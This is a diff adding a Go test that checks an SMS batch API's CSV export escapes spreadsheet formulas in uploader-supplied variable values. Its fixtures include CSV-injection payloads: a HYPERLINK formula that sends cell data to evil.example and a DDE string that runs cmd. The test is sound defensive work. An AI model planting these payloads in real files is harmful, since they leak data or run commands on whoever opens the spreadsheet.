@@ -2,6 +2,9 @@ package api
 
 import (
 	"context"
+	"encoding/csv"
+	"encoding/json"
+	"fmt"
 	"net/http"
 	"net/http/httptest"
 	"strings"
@@ -234,6 +237,53 @@ func TestRescheduleRefusesDataAfterTheObject(t *testing.T) {
 		r := env.do("POST", "/api/v2/batch/"+id+"/schedule", testKey, `{"scheduleTime": "`+at+`"}`+tail)
 		if r.Code != http.StatusBadRequest {
 			t.Errorf("schedule body ending %q: %d %s, want 400", tail, r.Code, r.Body)
+		}
+	}
+}
+
+// The export's cells that others wrote (the uploader's variable values) are
+// never spreadsheet formulas: one starting with = + - @ is kept as text, with a
+// leading apostrophe; the phone numbers, E.164, keep their +.
+func TestTheExportNeutralisesFormulas(t *testing.T) {
+	env := newAPI(t, nil)
+	values := []string{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, `@SUM(1+1)*cmd|' /C calc'!A0`, "+1+1", "-1+1", "Ada"}
+	var rcps []string
+	for i, v := range values {
+		data, _ := json.Marshal(v)
+		rcps = append(rcps, fmt.Sprintf(`{"phoneNumber": "+1415555010%d", "variables": {"name": %s}}`, i, data))
+	}
+	a := env.do("POST", "/api/batch", testKey, `{"text": "Hi {{name}}", "options": {"autoStart": false}, "recipients": [`+strings.Join(rcps, ",")+`]}`)
+	if a.Code != http.StatusCreated {
+		t.Fatalf("create: %d %s", a.Code, a.Body)
+	}
+	id := keyedAnswer{body: a.Body.Bytes()}.id(t)
+	var exp answer
+	for deadline := time.Now().Add(5 * time.Second); ; {
+		if exp = env.do("GET", "/api/batch/"+id+"/export.csv", testKey, ""); exp.Code == http.StatusOK || time.Now().After(deadline) {
+			break
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+	if exp.Code != http.StatusOK {
+		t.Fatalf("export: %d %s", exp.Code, exp.Body)
+	}
+	rows, err := csv.NewReader(strings.NewReader(exp.Body.String())).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(rows) != len(values)+1 {
+		t.Fatalf("%d rows", len(rows))
+	}
+	for i, row := range rows[1:] {
+		want := values[i]
+		if strings.ContainsAny(want[:1], "=+-@") {
+			want = "'" + want
+		}
+		if got := row[len(exportColumns)]; got != want {
+			t.Errorf("recipient %d: variable exported as %q, want %q", i, got, want)
+		}
+		if !strings.HasPrefix(row[1], "+1415") {
+			t.Errorf("recipient %d: phone exported as %q", i, row[1])
 		}
 	}
 }
